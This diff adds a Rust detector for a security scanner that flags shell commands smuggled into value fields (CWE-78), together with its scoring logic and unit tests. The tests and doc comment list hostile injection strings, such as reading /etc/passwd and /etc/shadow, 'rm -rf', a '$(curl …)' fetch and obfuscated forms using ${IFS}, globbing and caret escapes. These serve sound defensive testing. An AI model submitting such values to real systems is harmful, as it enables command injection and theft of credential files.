@@ -1,0 +1,297 @@
+//! Shell commands where a value was expected.
+//!
+//! **What it finds.** An operator of a shell (`;`, `|`, `&`, the end of a line, `` ` ``, `$(`) followed by a whole
+//! command, where what stands before it is no command but a value: nothing, a name, a parameter, a closed quote.
+//!
+//! **Why it matters.** A tool that puts the value into a command line runs the attacker's command (CWE-78).
+//!
+//! **Example.** `photo.jpg; cat /etc/passwd`
+//!
+//! Command lines as such (`npm install && npm test`), scripts, words in backticks and rows of tables are left alone. To
+//! allow commands in a field, such as the argument of a terminal tool, allow this class for that field.
+
+use super::{
+    commands::{self, Strength},
+    setting::{is_value, line_before},
+    words::{self, Command},
+};
+use crate::{
+    detector::{Detector, Finds, Hit, Outcome},
+    text::View,
+};
+use palisade_model::Severity;
+use std::ops::Range;
+
+pub(crate) static SHELL: Detector = Detector {
+    class: "guard.injection.shell",
+    version: "1",
+    severity: Severity::High,
+    title: "Shell command in a value",
+    remediation: "Call the program without a shell and pass the value as an argument of its own.",
+    references: &["CWE-78", "CWE-77", "OWASP-A03"],
+    finds: Finds::Places { needles: &NEEDLES, confirm },
+};
+
+/// Operators with the beginning of a command. A single operator would stand in every line of code.
+static NEEDLES: [&[u8]; 151] = {
+    let mut needles: [&[u8]; 151] = [b""; 151];
+    let letters: [&[u8]; 130] = [
+        b";a", b";b", b";c", b";d", b";e", b";f", b";g", b";h", b";i", b";j", b";k", b";l", b";m", b";n", b";o", b";p",
+        b";q", b";r", b";s", b";t", b";u", b";v", b";w", b";x", b";y", b";z", b"|a", b"|b", b"|c", b"|d", b"|e", b"|f",
+        b"|g", b"|h", b"|i", b"|j", b"|k", b"|l", b"|m", b"|n", b"|o", b"|p", b"|q", b"|r", b"|s", b"|t", b"|u", b"|v",
+        b"|w", b"|x", b"|y", b"|z", b"&a", b"&b", b"&c", b"&d", b"&e", b"&f", b"&g", b"&h", b"&i", b"&j", b"&k", b"&l",
+        b"&m", b"&n", b"&o", b"&p", b"&q", b"&r", b"&s", b"&t", b"&u", b"&v", b"&w", b"&x", b"&y", b"&z", b"`a", b"`b",
+        b"`c", b"`d", b"`e", b"`f", b"`g", b"`h", b"`i", b"`j", b"`k", b"`l", b"`m", b"`n", b"`o", b"`p", b"`q", b"`r",
+        b"`s", b"`t", b"`u", b"`v", b"`w", b"`x", b"`y", b"`z", b"\na", b"\nb", b"\nc", b"\nd", b"\ne", b"\nf", b"\ng",
+        b"\nh", b"\ni", b"\nj", b"\nk", b"\nl", b"\nm", b"\nn", b"\no", b"\np", b"\nq", b"\nr", b"\ns", b"\nt", b"\nu",
+        b"\nv", b"\nw", b"\nx", b"\ny", b"\nz",
+    ];
+    let others: [&[u8]; 21] = [
+        b"; ", b"| ", b"& ", b"$(", b";/", b"|/", b"&/", b"`/", b"\n/", b";$", b"|$", b"&$", b";{", b"|{", b"&{",
+        b";'", b";\"", b"|\"", b"\\n", b"|'", b";\\",
+    ];
+    let mut at = 0;
+    while at < 130 {
+        needles[at] = letters[at];
+        at += 1;
+    }
+    while at < 151 {
+        needles[at] = others[at - 130];
+        at += 1;
+    }
+    needles
+};
+
+/// What stands before the operator.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Lead {
+    /// Nothing, a name, the beginning of a parameter or a closing quote: a value was to end here.
+    Value,
+    /// Words that are no command.
+    Words,
+    /// A command, a prompt, or code: an operator belongs here.
+    Script,
+}
+
+/// Bytes up to which a text without white space is one value.
+const NAME_BYTES_MAX: usize = 80;
+
+fn confirm(view: &View<'_>, at: usize) -> Outcome {
+    let operator = operator_at(view, at);
+    if !is_value(view)
+        || !may_begin_command(view.bytes().get(operator.end))
+        || view.bytes().get(at) == Some(&b'\\') && operator.is_empty()
+    {
+        return Outcome::Clean { until: if is_value(view) { at + 1 } else { view.bytes().len() } };
+    }
+    let command = words::read(view.bytes(), operator.end);
+    let strength = commands::judge(&command);
+    if strength == Strength::None {
+        return Outcome::Clean { until: operator.end };
+    }
+    let confidence = confidence(view, &operator, &command, strength);
+    if confidence < 0.4 {
+        return Outcome::Clean { until: operator.end };
+    }
+    let end = view.slice(0..view.bytes().len()).floor_char_boundary(command.end);
+    let why = match strength {
+        Strength::Certain => "A shell command that reaches for something sensitive, or hides itself, follows a value.",
+        _ => "An operator of a shell and a whole command follow a value.",
+    };
+    let hit = Hit::text(operator.start..end, None, confidence, why).until(end.max(at + 1));
+    Outcome::Found(if confidence < 0.6 { hit.rated(Severity::Low) } else { hit })
+}
+
+/// The operators around `at`, with the blanks after them.
+fn operator_at(view: &View<'_>, at: usize) -> Range<usize> {
+    let bytes = view.bytes();
+    let start = view.byte_run_before(at, 8, |byte| b";|&\n\r `$(".contains(&byte)).start;
+    let start = start + bytes[start..at].iter().take_while(|byte| **byte == b' ').count();
+    let mut end = at;
+    while end < bytes.len() && end < at + 24 {
+        match &bytes[end..] {
+            [b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b' ' | b'\t', ..] => end += 1,
+            [b'$', b'(', ..] => end += 2,
+            [b'\\', b'n' | b'r', after, ..]
+                if !after.is_ascii_alphabetic() || commands_may_follow(&bytes[end + 2..]) =>
+            {
+                end += 2
+            }
+            _ => break,
+        }
+    }
+    start..end
+}
+
+/// True when a known command stands at the beginning of `rest`.
+fn commands_may_follow(rest: &[u8]) -> bool {
+    let length = rest.iter().take(16).take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
+    length >= 2 && std::str::from_utf8(&rest[..length]).is_ok_and(commands::is_command)
+}
+
+fn may_begin_command(byte: Option<&u8>) -> bool {
+    byte.is_some_and(|byte| byte.is_ascii_alphabetic() || b"/\\'\"${^.".contains(byte))
+}
+
+/// How sure it is that `command` was smuggled in.
+fn confidence(view: &View<'_>, operator: &Range<usize>, command: &Command, strength: Strength) -> f64 {
+    let substitution = view.slice(operator.clone()).contains(['`', '$']);
+    if is_markup(view, operator, command) {
+        return 0.0;
+    }
+    let lead = lead(view, operator.start, substitution);
+    let ends = is_end(view, command.end);
+    match (lead, strength) {
+        (Lead::Value, Strength::Certain) => 0.95,
+        (Lead::Value, Strength::Strong) if ends => 0.88,
+        (Lead::Value, Strength::Strong) => 0.6,
+        (Lead::Value, Strength::Weak) if ends && command.words.len() <= 2 => 0.45,
+        (Lead::Words, Strength::Certain) => 0.85,
+        (Lead::Words, Strength::Strong) if ends && !substitution => 0.5,
+        (Lead::Script, Strength::Certain) if command.disguised => 0.6,
+        _ => 0.0,
+    }
+}
+
+/// True for a row of a table, a word in backticks within text, and a line of a script that goes on.
+fn is_markup(view: &View<'_>, operator: &Range<usize>, command: &Command) -> bool {
+    let text = view.bytes();
+    let sign = view.slice(operator.clone());
+    let cells = memchr::memchr_iter(b'|', text).count();
+    if sign.contains('|')
+        && cells >= 3
+        && !sign.contains("||")
+        && text.trim_ascii().ends_with(b"|")
+        && text.contains(&b' ')
+    {
+        return true;
+    }
+    let goes_on = text[command.end..].trim_ascii_start().starts_with(b"\\");
+    if goes_on && !command.words.is_empty() && text[command.end..].contains(&b'\n') {
+        return true;
+    }
+    let backtick = sign.ends_with('`') && !sign.contains(['$', ';', '|', '&']);
+    backtick
+        && !(text[..operator.start].trim_ascii().is_empty() && text[command.end..].trim_ascii() == b"`")
+        && lead(view, operator.start, true) != Lead::Value
+}
+
+/// True when nothing but operators, quotes, brackets and comments follows.
+fn is_end(view: &View<'_>, end: usize) -> bool {
+    let rest = view.bytes()[end..].trim_ascii();
+    let rest = rest.strip_prefix(b"\\n").unwrap_or(rest);
+    let closing = rest.iter().take_while(|byte| b";|&'\"`)}]>#-/\\ \n\r\0".contains(byte)).count();
+    closing == rest.len()
+        || rest.starts_with(b"#")
+        || rest.starts_with(b"&")
+        || rest.starts_with(b";")
+        || rest.starts_with(b"|")
+        || rest.starts_with(b"<!--")
+}
+
+/// What stands before the operator at `at`.
+fn lead(view: &View<'_>, at: usize, substitution: bool) -> Lead {
+    let Some(line) = line_before(view, at) else { return Lead::Words };
+    let first_line = !view.bytes()[..at - line.len()].iter().any(|byte| !byte.is_ascii_whitespace());
+    let indented = line.first().is_some_and(|byte| matches!(byte, b' ' | b'\t'));
+    let line = line.trim_ascii();
+    if line.is_empty() {
+        return if first_line && !indented || first_line && view.bytes().len() < NAME_BYTES_MAX {
+            Lead::Value
+        } else {
+            Lead::Script
+        };
+    }
+    if is_script(line, substitution) {
+        return Lead::Script;
+    }
+    let name = line.len() <= NAME_BYTES_MAX && !line.contains(&b' ');
+    if name || ends_parameter(line) || closes_quote(line) {
+        return Lead::Value;
+    }
+    Lead::Words
+}
+
+/// True for a line that begins as a command, a prompt, an assignment or another piece of a script or program.
+fn is_script(line: &[u8], substitution: bool) -> bool {
+    let first = line.split(|byte| byte.is_ascii_whitespace() || b";|&".contains(byte)).next().unwrap_or_default();
+    let starts = std::str::from_utf8(first).is_ok_and(commands::is_command);
+    let prompt = matches!(
+        first,
+        b"$" | b"#"
+            | b">"
+            | b"%"
+            | b"//"
+            | b"#!"
+            | b"*"
+            | b"-"
+            | b"export"
+            | b"if"
+            | b"while"
+            | b"for"
+            | b"then"
+            | b"do"
+            | b"RUN"
+            | b"CMD"
+    );
+    let assigns = substitution && !line.contains(&b'?') && !line.contains(&b'&') && line.ends_with(b"=");
+    let code = line.iter().any(|byte| b"{}".contains(byte)) && line.contains(&b' ');
+    let call = line.contains(&b'(') && line.contains(&b' ');
+    starts || prompt || assigns || code || call
+}
+
+/// True when `line` ends as `name=value` of a query.
+fn ends_parameter(line: &[u8]) -> bool {
+    let Some(equals) = memchr::memrchr(b'=', line) else { return false };
+    let value = &line[equals + 1..];
+    let name =
+        line[..equals].iter().rev().take_while(|byte| byte.is_ascii_alphanumeric() || b"_-[]".contains(byte)).count();
+    let before = line[..equals - name].last();
+    name > 0 && before.is_none_or(|byte| b"?&;/".contains(byte)) && !value.contains(&b' ')
+}
+
+/// True when `line` ends with a quote that it did not open.
+fn closes_quote(line: &[u8]) -> bool {
+    let Some(quote @ (b'\'' | b'"')) = line.last() else { return false };
+    memchr::memchr_iter(*quote, line).count() % 2 == 1
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::testing::check;
+
+    #[test]
+    fn shell() {
+        check(
+            "guard.injection.shell",
+            &[
+                ("photo.jpg; cat /etc/passwd", 9..26),
+                ("127.0.0.1 && whoami", 10..19),
+                ("x|id", 1..4),
+                ("/ping?host=1.1.1.1;sleep 5", 18..26),
+                ("name'; rm -rf /tmp/x #", 5..21),
+                ("`id`", 0..3),
+                ("$(curl http://example.org/x)", 0..27),
+                ("a\ncat /etc/shadow", 1..17),
+                (";c'a't${IFS}/etc/hosts", 0..22),
+                ("x;/???/c?t /tmp/x", 1..17),
+                ("file & dir C:\\", 5..14),
+                ("|w^h^o^a^m^i", 0..12),
+                ("x;{cat,/etc/passwd}", 1..18),
+            ],
+            &[
+                "npm install && npm test",
+                "Run `ls` or `cat` to see the files; cat is shorter.",
+                "| id | name | type |",
+                "cat access.log | sort | uniq -c | head",
+                "if (a & id) { b; }",
+                "Terms; sort of; more or less",
+                "#!/bin/sh\ncat /etc/os-release | grep ID\nls -l /tmp\n",
+                "    && apt-get install -y curl \\\n    && rm -rf /var/lib/apt/lists/*",
+                "https://example.org/?a=1&id=3&sort=name&type=x",
+                "OS=$(uname -s)",
+                "string | null",
+            ],
+        );
+    }
+}
